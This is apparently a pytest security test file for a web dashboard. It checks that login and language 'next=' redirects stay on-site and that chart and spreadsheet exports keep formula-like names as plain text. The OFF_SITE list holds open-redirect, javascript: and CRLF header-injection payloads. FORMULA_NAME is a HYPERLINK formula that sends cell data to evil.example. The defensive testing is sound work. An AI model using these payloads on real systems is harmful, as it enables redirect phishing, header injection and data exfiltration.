"""Hostile input at the dashboard's doors: where a login may send the browser next.

`next=` (after logging in, and after choosing a language) may only lead to a path of this
site, without control characters: never to another host (`//evil`, `/\\evil`, `https://`),
never through characters browsers drop from a URL (`/\\t/evil` is `//evil` to them), never
into a header of its own (`\\r\\n`).
"""

from __future__ import annotations

import re

import aiohttp
import pytest

from backend.dashboard import views_account
from tests.security.bench import PASSWORD, World, csrf_of

# Targets that must never be followed: each leads off-site, or is no clean path.
OFF_SITE = [
    "//evil.example",
    "//evil.example/dashboard",
    "///evil.example",
    "/\\evil.example",
    "/\\/evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "https://evil.example",
    "HTTPS://evil.example/dashboard",
    "http:evil.example",
    "http:/evil.example",
    "javascript:alert(1)",
    "evil.example",
    "dashboard",
    "/\t/evil.example",
    "\t//evil.example",
    "/\n/evil.example",
    "/\r/evil.example",
    "/dashboard\r\nSet-Cookie: stolen=1",
    "/\r\nLocation: https://evil.example",
    "/dash\\board",
    "/dashboard/\\evil.example",
    " //evil.example",
    "/ /evil.example",
    "/\u00a0/evil.example",
    "/\u200b/evil.example",
    "/\u2028/evil.example",
    "/\x7f/evil.example",
    "/\x85/evil.example",
    "/dashboard\x1b[31m",
    "/" + "a" * 5000,
]
# Same-site paths: followed as given.
SAME_SITE = [
    "/dashboard/schools/alpha",
    "/dashboard/account?tab=token&next=//evil.example",
    "/dashboard/schools/alpha#cycles",
    "/dashboard/%2F%2Fevil.example",
]
HOME = "/dashboard"


@pytest.fixture
def fast_passwords(monkeypatch):
    """argon2 takes a second per try; the routes and sessions are the real ones."""
    monkeypatch.setattr(views_account, "verify_password", lambda h, p: p == PASSWORD)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_after_login_next_only_leads_to_a_path_of_this_site(world: World, fast_passwords):
    client = world.client
    problems = []
    for target, expected in [(t, HOME) for t in OFF_SITE] + [(t, t) for t in SAME_SITE]:
        client.session.cookie_jar.clear()
        where = f"next={target[:60]!r}"
        try:
            resp = await client.post(
                "/login",
                data={
                    "csrf": await csrf_of(client),
                    "email": world.a.email,
                    "password": PASSWORD,
                    "next": target,
                },
                allow_redirects=False,
            )
            await resp.read()
        except aiohttp.ClientError as exc:  # the server could not even write the answer
            problems.append(f"{where}: {type(exc).__name__}")
            continue
        if resp.status != 303:
            problems.append(f"{where}: {resp.status}")
            continue
        if resp.headers.get("Location") != expected:
            problems.append(f"{where}: Location {resp.headers.get('Location', '')[:60]!r}")
        if "stolen" in str(resp.headers):
            problems.append(f"{where}: a header of its own")
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_the_language_picker_follows_no_foreign_next(world: World):
    client = world.client
    for target in OFF_SITE:
        resp = await client.post(
            "/language",
            data={"csrf": await csrf_of(client), "lang": "en", "next": target},
            allow_redirects=False,
        )
        await resp.read()
        assert resp.status == 303, target
        assert resp.headers["Location"] == "/login", (target[:60], resp.headers["Location"][:60])
    resp = await client.post(
        "/language",
        data={"csrf": await csrf_of(client), "lang": "en", "next": "/login?x=1"},
        allow_redirects=False,
    )
    assert resp.headers["Location"] == "/login?x=1"


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_the_login_page_carries_no_foreign_next_into_its_form(world: World):
    client = world.client
    for target in ("//evil.example", "/\\evil.example", "https://evil.example"):
        resp = await client.get("/login", params={"next": target})
        assert resp.status == 200
        carried = re.findall(r'name="next" value="([^"]*)"', await resp.text())
        # The login form's own field is empty; the language picker's returns to this page.
        assert "" in carried and all(v == "" or v.startswith("/login?") for v in carried)
    resp = await client.get("/login", params={"next": "/dashboard/schools/alpha"})
    assert 'value="/dashboard/schools/alpha"' in await resp.text()


# -- names that look like code stay text in every chart and export --------------------

MATH_NAME = r"a $\frac$ b $x$"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_names_that_look_like_code_stay_text_in_every_chart_and_export(world: World):
    """Through the routes: every chart and export of a cycle named in mathtext, of a school
    and an earlier cycle named as spreadsheet formulas."""
    from io import BytesIO

    from openpyxl import load_workbook
    from sqlalchemy import update

    from storage.models import Cycle, School
    from tests.security.bench import login, readable, svg_text

    w, client = world, world.client
    async with w.sm.begin() as s:
        await s.execute(update(Cycle).where(Cycle.id == w.a.cycle_id).values(name=MATH_NAME))
        await s.execute(
            update(Cycle).where(Cycle.id == w.a.old_cycle_id).values(name="+" + FORMULA_NAME)
        )
        await s.execute(update(School).where(School.id == w.a.school_id).values(name=FORMULA_NAME))
    assert (await login(client, w.a.email)).status == 303
    fills = {"cycle_id": str(w.a.cycle_id), "key": "VL-1", "dim": "2"}
    paths = []
    for route in w.app.router.routes():
        name = route.name or ""
        if route.method != "GET" or not name.startswith(("dash:chart_", "dash:compare_chart")):
            continue
        paths.append(
            route.url_for(
                **{k: v for k, v in fills.items() if f"{{{k}" in route.resource.canonical}
            ).path
        )
    paths = [p + ("?with=" + str(w.a.old_cycle_id) if "compare" in p else "") for p in paths]
    assert len(paths) >= 5, paths
    for path in paths:
        resp = await client.get(path)
        assert resp.status == 200, path
        assert MATH_NAME in svg_text(await resp.text()), path
    base = f"/dashboard/cycles/{w.a.cycle_id}/export"
    resp = await client.get(base + ".xlsx")
    assert resp.status == 200
    wb = load_workbook(BytesIO(await resp.read()))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    named = [c for c in cells if c.value in (FORMULA_NAME, MATH_NAME)]
    assert {c.value for c in named} == {FORMULA_NAME, MATH_NAME}
    assert all(c.data_type == "s" for c in named)
    resp = await client.get(base + ".pdf")
    assert resp.status == 200
    assert r"\frac" in readable(await resp.read())
    resp = await client.get(base + ".csv")
    assert resp.status == 200
